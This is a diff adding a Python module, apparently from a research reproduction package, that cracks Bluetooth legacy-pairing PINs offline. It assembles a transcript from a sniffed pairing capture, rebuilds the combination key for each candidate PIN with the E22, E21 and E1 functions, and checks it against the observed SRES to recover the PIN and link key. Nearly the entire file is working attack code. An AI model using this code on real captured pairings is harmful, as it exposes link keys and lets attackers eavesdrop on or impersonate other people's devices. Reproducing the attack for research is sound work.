@@ -1,0 +1,119 @@
+"""Offline PIN cracking of legacy pairing (the paper's refs [14][15]).
+
+Legacy pairing's whole transcript is recoverable from the air:
+
+* ``LMP_in_rand`` carries IN_RAND in the clear,
+* each ``LMP_comb_key`` carries ``LK_RAND ⊕ K_init``,
+* the subsequent challenge carries AU_RAND, and the prover's SRES is
+  also plaintext.
+
+An attacker who sniffed one pairing can therefore brute-force the PIN
+offline: for each candidate PIN, recompute ``K_init = E22(IN_RAND,
+PIN, responder address)``, unmask both LK_RANDs, rebuild the
+combination key, and check it against the observed SRES.  Numeric
+4-digit PINs fall in a ten-thousandth of the keyspace.
+
+This is *why* SSP exists — and the historical contrast for the paper's
+point that SSP-era keys leak through the HCI instead.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Iterable, Iterator, Optional
+
+from repro.core.errors import AttackError
+from repro.core.types import BdAddr, LinkKey
+from repro.attacks.eavesdrop import AirCapture
+from repro.controller import lmp
+from repro.crypto.legacy import e1, e21, e22
+
+
+@dataclass(frozen=True)
+class PairingTranscript:
+    """The sniffed material needed for the offline search."""
+
+    in_rand: bytes
+    initiator_masked_rand: bytes
+    responder_masked_rand: bytes
+    au_rand: bytes
+    sres: bytes
+    initiator_addr: BdAddr
+    responder_addr: BdAddr
+    # The challenge's prover: the side that answered with SRES.
+    prover_addr: BdAddr
+
+
+@dataclass(frozen=True)
+class PinCrackResult:
+    """A successful offline PIN recovery."""
+
+    pin: bytes
+    link_key: LinkKey
+    candidates_tried: int
+
+
+def transcript_from_capture(
+    capture: AirCapture,
+    initiator_name: str,
+    initiator_addr: BdAddr,
+    responder_addr: BdAddr,
+) -> PairingTranscript:
+    """Assemble the transcript from a passive air capture."""
+    in_rands = capture.lmp_frames(lmp.LmpInRand)
+    combs = capture.lmp_frames(lmp.LmpCombKey)
+    au_rands = capture.lmp_frames(lmp.LmpAuRand)
+    sres_frames = capture.lmp_frames(lmp.LmpSres)
+    if not in_rands or len(combs) < 2 or not au_rands or not sres_frames:
+        raise AttackError("capture does not contain a full legacy pairing")
+    initiator_combs = [f for f in combs if f.sender == initiator_name]
+    responder_combs = [f for f in combs if f.sender != initiator_name]
+    if not initiator_combs or not responder_combs:
+        raise AttackError("could not attribute comb-key contributions")
+    au = au_rands[-1]
+    sres = sres_frames[-1]
+    prover_addr = responder_addr if au.sender == initiator_name else initiator_addr
+    return PairingTranscript(
+        in_rand=in_rands[-1].frame.payload.rand,
+        initiator_masked_rand=initiator_combs[-1].frame.payload.masked_rand,
+        responder_masked_rand=responder_combs[-1].frame.payload.masked_rand,
+        au_rand=au.frame.payload.rand,
+        sres=sres.frame.payload.sres,
+        initiator_addr=initiator_addr,
+        responder_addr=responder_addr,
+        prover_addr=prover_addr,
+    )
+
+
+def _xor16(a: bytes, b: bytes) -> bytes:
+    return bytes(x ^ y for x, y in zip(a, b))
+
+
+def candidate_key(transcript: PairingTranscript, pin: bytes) -> LinkKey:
+    """Rebuild the combination key a given PIN would have produced."""
+    k_init = e22(transcript.in_rand, pin, transcript.responder_addr)
+    initiator_lk_rand = _xor16(transcript.initiator_masked_rand, k_init.value)
+    responder_lk_rand = _xor16(transcript.responder_masked_rand, k_init.value)
+    initiator_part = e21(initiator_lk_rand, transcript.initiator_addr)
+    responder_part = e21(responder_lk_rand, transcript.responder_addr)
+    return LinkKey(_xor16(initiator_part.value, responder_part.value))
+
+
+def numeric_pins(digits: int = 4) -> Iterator[bytes]:
+    """All numeric PINs of the given length, in counting order."""
+    for value in range(10**digits):
+        yield str(value).zfill(digits).encode("ascii")
+
+
+def crack_pin(
+    transcript: PairingTranscript, pin_space: Iterable[bytes]
+) -> Optional[PinCrackResult]:
+    """Search the PIN space against the sniffed SRES."""
+    tried = 0
+    for pin in pin_space:
+        tried += 1
+        key = candidate_key(transcript, pin)
+        sres, _ = e1(key, transcript.au_rand, transcript.prover_addr)
+        if sres == transcript.sres:
+            return PinCrackResult(pin=pin, link_key=key, candidates_tried=tried)
+    return None
